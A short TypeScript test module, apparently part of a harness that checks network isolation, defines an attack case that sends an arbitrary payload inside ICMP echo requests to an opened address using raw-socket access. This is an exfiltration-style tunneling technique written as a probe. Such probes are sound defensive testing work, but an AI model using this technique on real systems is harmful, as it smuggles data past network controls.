import type { Attack } from '../../prove/attack.ts'
import { icmpPacket } from '../../prove/packet.ts'

export default {
  tries: 'carries data in echo requests to an opened address',
  assumes: ['net_raw'],
  run: async ({ ask, name, packet, own, open, payload }) => {
    await ask(name('open'))
    packet(icmpPacket({ source: own[4], destination: open[4] }, 8, 0, Buffer.concat([new Uint8Array(4), payload])))
  },
} satisfies Attack
